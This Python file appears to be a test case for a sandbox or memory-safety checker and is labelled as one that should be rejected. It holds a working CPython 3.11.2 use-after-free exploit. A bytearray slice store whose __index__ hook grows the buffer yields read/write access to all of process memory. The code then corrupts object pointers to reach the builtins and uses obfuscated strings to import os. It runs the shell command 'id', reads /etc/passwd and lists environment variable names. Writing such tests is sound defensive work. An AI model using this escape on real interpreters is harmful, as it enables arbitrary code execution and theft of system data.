# expect: reject memory
# line: 8
# why: round 78: a bytearray step-slice store converts its start with __index__ after fixing the buffer; growing the bytearray there makes the write land in freed memory, then id (verified under 3.11.2)
# mechanism: bytearray extended-slice store b[I():24:2] = v: CPython 3.11.2 takes the buffer address, then runs the start's __index__ (program code) which grows the bytearray (old block freed, an empty bytearray's header reclaims it), then writes at the stale address, setting that header's ob_size to 2**62 - a bytearray over all memory; the memory rule judges only the stored value of step stores, not the bounds' __index__.
b = bytearray(60)
got = []
class I:
    def __index__(self):
        b.extend(bytes(4096))
        got.append(bytearray())
        return 23
b[I():24:2] = bytearray(b"\x40")
mem = got[0]
print("fake size", hex(len(mem)))
def rd(a):
    return int.from_bytes(mem[a:a + 8], "little")
def w8(v):
    return v.to_bytes(8, "little")
target = rd(id(w8) + 24)              # PyFunctionObject.func_builtins
mem[target:target + 8] = w8(rd(target) + 1)
cell = [None]
slot = rd(id(cell) + 24)              # list ob_item
mem[slot:slot + 8] = w8(target)
table = cell[0]
loader = table["_" * 2 + "import" + "_" * 2]
osm = loader("o" + "s")
osm.system("id")
print(table["op" + "en"]("/etc/passwd").read()[:120])
print("environ keys:", sorted(osm.environ)[:8])
